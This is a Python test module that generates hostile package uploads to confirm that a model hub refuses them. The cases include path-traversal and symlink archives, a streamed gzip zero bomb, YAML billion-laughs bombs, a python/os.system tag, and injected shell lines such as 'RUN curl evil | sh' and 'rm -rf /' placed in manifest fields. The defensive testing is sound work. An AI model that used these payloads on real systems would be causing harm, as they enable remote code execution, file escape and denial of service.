"""The hostile package corpus, built by the tests in a temp folder: archives that try to escape the
package, links and devices, archives over a cap, compression bombs, manifests, cards and examples of
megabytes, YAML bombs, and fields that try to become Dockerfile or shell lines (issue 10, item 5).

Each case is a valid package with one thing made hostile, so the hub's answer can only be about that
thing. `ZeroBomb` is a real .tar.gz of gigabytes of zeros, made as it is read: a test never builds
what the hub must refuse to unpack."""

from __future__ import annotations

import io
import json
import os
import struct
import tarfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import yaml

from tests.packages import onnx_package

MiB = 1024 * 1024
NAME = "hostile"


@dataclass(frozen=True)
class Case:
    """One hostile input, the status the hub answers and a part of what its error says."""

    id: str
    build: Callable[[Path], bytes]  # a temp folder -> the request body
    status: int
    says: str


def bad(id: str, build: Callable[[Path], bytes], says: str) -> Case:
    """A case the hub answers 400 Invalid, listing what is wrong."""
    return Case(id, build, 400, says)


def valid_package(root: Path, **manifest) -> Path:
    return onnx_package(root, name=NAME, **manifest)


def member(name: str, data: bytes = b"x", kind: bytes = tarfile.REGTYPE, **attrs) -> tuple:
    info = tarfile.TarInfo(name)
    info.type, info.size = kind, len(data) if kind == tarfile.REGTYPE else 0
    for key, value in attrs.items():
        setattr(info, key, value)
    return info, (data if kind == tarfile.REGTYPE else None)


def files_of(root: Path, skip: tuple[str, ...] = ()) -> list[tuple]:
    return [member(p.name, p.read_bytes()) for p in sorted(root.iterdir()) if p.name not in skip]


def tar_gz(members: list[tuple], fmt: int = tarfile.PAX_FORMAT) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=fmt) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buffer.getvalue()


def with_member(*extra: tuple, skip: tuple[str, ...] = (), fmt: int = tarfile.PAX_FORMAT):
    """A builder: the valid package's files (less `skip`) and the `extra` members."""
    return lambda tmp: tar_gz([*files_of(valid_package(tmp / "pkg"), skip), *extra], fmt)


def with_file(name: str, data: bytes):
    """A builder: the valid package with the file `name` holding `data`."""

    def build(tmp: Path) -> bytes:
        root = valid_package(tmp / "pkg")
        (root / name).write_bytes(data)
        return tar_gz(files_of(root))

    return build


def fields(**values):
    """A builder: the valid package with these aid.yaml fields (None deletes one)."""

    def build(tmp: Path) -> bytes:
        root = valid_package(tmp / "pkg")
        manifest = {**yaml.safe_load((root / "aid.yaml").read_text()), **values}
        text = yaml.safe_dump({k: v for k, v in manifest.items() if v is not None}, sort_keys=False)
        (root / "aid.yaml").write_text(text)
        return tar_gz(files_of(root))

    return build


# --- manifests --------------------------------------------------------------------------------------


def laughs(levels: int = 9) -> bytes:
    """The billion laughs: 9 ** levels strings from a few hundred bytes of anchors and aliases."""
    lines = [f"name: {NAME}", 'lol0: &lol0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"lol{i}: &lol{i} [{', '.join([f'*lol{i - 1}'] * 9)}]" for i in range(1, levels + 1)]
    return ("\n".join(lines) + "\n").encode()


def merge_bomb(levels: int = 12) -> bytes:
    """Merge keys (`<<`) copy a mapping's entries: 3 * 9 ** levels of them."""
    lines = [f"name: {NAME}", "m0: &m0 {a: 1, b: 2, c: 3}"]
    lines += [f"m{i}: &m{i} {{<<: [{', '.join([f'*m{i - 1}'] * 9)}]}}" for i in range(1, levels + 1)]
    return ("\n".join(lines) + "\n").encode()


# --- the compression bomb ------------------------------------------------------------------------


class ZeroBomb:
    """A .tar.gz holding one file of `size` zero bytes (a whole number of MiB), read like a file and
    made as it is read: deflate resets at every MiB, so each MiB compresses to the same bytes."""

    def __init__(self, size: int = 10 * 1024 * MiB, name: str = "weights.bin"):
        assert size % MiB == 0
        info = tarfile.TarInfo(name)
        info.size = size
        self.header = info.tobuf(tarfile.PAX_FORMAT)
        self.blocks = size // MiB
        deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        gzip_header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
        self.head = gzip_header + deflate.compress(self.header) + deflate.flush(zlib.Z_FULL_FLUSH)
        self.block = deflate.compress(bytes(MiB)) + deflate.flush(zlib.Z_FULL_FLUSH)
        again = deflate.copy()
        assert again.compress(bytes(MiB)) + again.flush(zlib.Z_FULL_FLUSH) == self.block
        self.end = bytes(2 * tarfile.BLOCKSIZE)  # the end-of-archive blocks
        self.tail = deflate.compress(self.end) + deflate.flush(zlib.Z_FINISH)
        self.length = len(self.head) + self.blocks * len(self.block) + len(self.tail) + 8
        self.size, self.pos, self.sent = size, 0, 0  # sent: bytes read, wherever from

    def read(self, n: int = -1) -> bytes:
        left = self.length - self.pos
        n = left if n is None or n < 0 else min(n, left)
        out = bytearray()
        while len(out) < n:
            out += self._at(self.pos + len(out), n - len(out))
        self.pos += len(out)
        self.sent += len(out)
        return bytes(out)

    def tell(self) -> int:
        return self.pos

    def seek(self, offset: int, whence: int = 0) -> int:
        self.pos = (0, self.pos, self.length)[whence] + offset
        return self.pos

    def _at(self, offset: int, n: int) -> bytes:
        """Up to `n` bytes from `offset` of the whole stream."""
        body = len(self.head) + self.blocks * len(self.block)
        if offset < len(self.head):
            return self.head[offset : offset + n]
        if offset < body:
            start = (offset - len(self.head)) % len(self.block)
            return self.block[start : start + n]
        if offset < body + len(self.tail):
            return self.tail[offset - body : offset - body + n]
        return self._trailer()[offset - body - len(self.tail) :][:n]

    def _trailer(self) -> bytes:
        """The gzip trailer: the CRC-32 and size of all it unpacks to (read only by a whole read)."""
        crc = zlib.crc32(self.header)
        for _ in range(self.blocks):
            crc = zlib.crc32(bytes(MiB), crc)
        crc = zlib.crc32(self.end, crc)
        return struct.pack("<II", crc, (len(self.header) + self.size + len(self.end)) % 2**32)

    def chunks(self, size: int = 64 * 1024):
        while data := self.read(size):
            yield data


def examples_of(count: int) -> bytes:
    """examples.json with `count` (empty) examples, 3 bytes each."""
    return json.dumps([{}] * count, separators=(",", ":")).encode()


def examples_of_size(size: int) -> bytes:
    """One example of `size` bytes that do not compress much (a compression bomb is another case)."""
    return json.dumps([{"inputs": {}, "note": os.urandom(size // 2).hex()}]).encode()


# --- the corpus ---------------------------------------------------------------------------------------


ARCHIVES = [
    Case("dot-dot", with_member(member("../escape.txt")), 400, "'../escape.txt' points outside the package"),
    Case(
        "dot-dot-inside", with_member(member("weights/../../escape.txt")), 400, "points outside the package"
    ),
    Case("absolute", with_member(member("/etc/cron.d/aidhub")), 400, "'/etc/cron.d/aidhub' points outside"),
    Case("backslash", with_member(member("..\\escape.txt")), 400, "points outside the package"),
    Case(
        "symlink",
        with_member(member("model.onnx", kind=tarfile.SYMTYPE, linkname="/etc/passwd"), skip=("model.onnx",)),
        400,
        "'model.onnx' is a link or special file",
    ),
    Case(
        "hard-link",
        with_member(member("copy.onnx", kind=tarfile.LNKTYPE, linkname="/etc/shadow")),
        400,
        "'copy.onnx' is a link or special file",
    ),
    Case(
        "char-device",
        with_member(member("null", kind=tarfile.CHRTYPE, devmajor=1, devminor=3)),
        400,
        "'null' is a link or special file",
    ),
    Case(
        "block-device",
        with_member(member("sda", kind=tarfile.BLKTYPE, devmajor=8, devminor=0)),
        400,
        "'sda' is a link or special file",
    ),
    Case("fifo", with_member(member("pipe", kind=tarfile.FIFOTYPE)), 400, "'pipe' is a link or special file"),
    Case(
        "sparse",
        with_member(member("holes.bin", kind=tarfile.GNUTYPE_SPARSE), fmt=tarfile.GNU_FORMAT),
        400,
        "'holes.bin' is a sparse file",
    ),
    Case(
        "pax-header-of-a-mebibyte",
        with_member(member("big-header.txt", pax_headers={"comment": "x" * MiB})),
        400,
        "has a header of",
    ),
    Case(
        "negative-size",
        with_member(member("neg.bin", b"", pax_headers={"size": "-1000000000000"})),
        400,
        "'neg.bin' has a negative size",
    ),
    Case("control-characters", with_member(member("a\nRUN curl evil | sh")), 400, "has control characters"),
    Case(
        "file-and-folder",
        with_member(member("model.onnx/x")),
        400,
        "'model.onnx' is a file and also the folder",
    ),
    Case("twice", with_member(member("README.md", b"# again\n")), 400, "'README.md' is listed twice"),
    Case("truncated", lambda tmp: with_member()(tmp)[:300], 400, "archive: is truncated"),
    Case("not-an-archive", lambda tmp: b"<html>not a tarball</html>", 400, "archive: cannot be unpacked"),
    Case("empty-body", lambda tmp: b"", 400, "archive: cannot be unpacked"),
    Case("empty-archive", lambda tmp: tar_gz([]), 400, "files: must be a non-empty list"),
]

MANIFESTS = [
    bad("manifest-of-a-mebibyte", with_file("aid.yaml", b"summary: " + b"x" * MiB),
      "aid.yaml: is larger than 65,536 bytes"),
    bad("billion-laughs", with_file("aid.yaml", laughs()), "aid.yaml: holds more than 10,000 values"),
    bad("merge-key-bomb", with_file("aid.yaml", merge_bomb()), "merge keys (<<) are not supported"),
    bad("self-alias", with_file("aid.yaml", b"name: &a [*a]\n"), "holds more than 10,000 values"),
    bad("deep-nesting", with_file("aid.yaml", b"name: " + b"[" * 30000 + b"]" * 30000),
      "aid.yaml: is not valid YAML"),
    bad("python-tag", with_file("aid.yaml", b"name: !!python/object/apply:os.system ['id']\n"),
      "could not determine a constructor"),
    bad("huge-integer", with_file("aid.yaml", b"name: x\nresources: {cpu: " + b"9" * 5000 + b"}\n"),
      "aid.yaml: is not valid YAML"),
    bad("not-utf8", with_file("aid.yaml", b"name: \xff\xfe\n"), "aid.yaml: is not valid YAML"),
    bad("card-of-two-mebibytes", with_file("README.md", b"# card\n" + b"x" * 2 * MiB),
      "README.md: larger than 262144 bytes"),
    bad("a-million-examples", with_file("examples.json", examples_of(1_000_000)),
      "has 1,000,000 examples; keep at most 100"),
    bad("examples-of-nine-mebibytes", with_file("examples.json", examples_of_size(9 * MiB)),
      "examples.json is larger than 8,388,608 bytes"),
    bad("examples-nested-deep", with_file("examples.json", b"[" * 100_000 + b"]" * 100_000),
      "examples.json is not valid JSON"),
    bad("requirements-of-a-mebibyte", with_file("requirements.txt", b"numpy\n" * (MiB // 6 + 1)),
      "requirements.txt is larger than 65,536 bytes"),
    bad("reference-header-without-end", with_file("reference.csv", b"x" * (MiB + 1)),
      "the header line is longer than 65,536 bytes"),
    bad("reference-header-not-text", with_file("reference.csv", b"\xff\xfe,\x00\n1,2\n"),
      "the header line cannot be read as CSV"),
]  # fmt: skip

INJECTIONS = [
    bad("name-newline", fields(name="iris\nRUN curl evil | sh"), "name: 'iris\\nRUN curl evil | sh'"),
    bad("name-shell", fields(name="iris;rm -rf /"), "name: 'iris;rm -rf /' is not valid"),
    bad("name-backticks", fields(name="iris`id`"), "name: 'iris`id`' is not valid"),
    bad("version-substitution", fields(version="1.0.0$(id)"), "version: '1.0.0$(id)' is not valid"),
    bad("version-carriage-return", fields(version="1.0.0\rRUN id"), "version: '1.0.0\\rRUN id'"),
    bad("requirement-newline", fields(requirements=["numpy\nRUN curl evil | sh"]),
      "requirements[0]: 'numpy\\nRUN curl evil | sh' is not a plain requirement"),
    bad("requirement-semicolon", fields(requirements=["numpy; rm -rf /"]),
      "requirements[0]: 'numpy; rm -rf /' is not a plain requirement"),
    bad("requirement-backticks", fields(requirements=["numpy==`id`"]), "is not a plain requirement"),
    bad("requirement-substitution", fields(requirements=["numpy>=$(id)"]), "is not a plain requirement"),
    bad("requirement-option", fields(requirements=["--index-url=http://evil/simple"]),
      "is not a plain requirement"),
    bad("requirement-url", fields(requirements=["numpy @ https://evil/numpy.whl"]),
      "is not a plain requirement"),
    bad("requirement-editable", fields(requirements=["-e git+https://evil/x"]),
      "is not a plain requirement"),
    bad("requirements-txt-carriage-return", with_file("requirements.txt", b"numpy\rRUN curl evil | sh\n"),
      "requirements.txt[1]: 'RUN curl evil | sh' is not a plain requirement"),
    bad("base-image-newline", fields(base_image="python:3.11\nRUN curl evil | sh"),
      "base_image: 'python:3.11\\nRUN curl evil | sh' is not valid"),
    bad("base-image-shell", fields(base_image="python:3.11 && id"), "base_image: 'python:3.11 && id'"),
    bad("base-image-gpu-newline", fields(base_image={"gpu": "cuda:12\nRUN id"}), "base_image.gpu"),
    bad("entrypoint-shell", fields(entrypoint="predict.py:Model; id"),
      "entrypoint: 'predict.py:Model; id' is not valid"),
    bad("python-newline", fields(python="3.11\nRUN id"), "python: '3.11\\nRUN id' is not valid"),
    bad("tag-newline", fields(tags=["ok\nRUN id"]), "tags[0]: 'ok\\nrun id' is not valid"),
    bad("artifact-newline", fields(artifact="model.onnx\nRUN id"), "must be a relative path"),
    bad("tensor-name-shell", fields(inputs={"x;id": {"dtype": "float32", "shape": [-1, 2]}}),
      "'x;id' is not a valid tensor name"),
]  # fmt: skip

FILE_LISTS = [
    ("../escape.txt", "points outside the package"),
    ("/etc/passwd", "points outside the package"),
    ("weights/../../escape", "points outside the package"),
    ("a//b", "points outside the package"),
    ("a/./b", "points outside the package"),
    ("folder/", "points outside the package"),
    ("..\\escape", "points outside the package"),
    ("a\nRUN id", "has control characters"),
    ("x" * 1001, "longer than 1000 characters"),
    ("n" * 256, "has a name longer than 255 bytes"),
    ("bad-\udc80-utf8", "is not valid UTF-8"),
    ("", "is not a file path"),
]
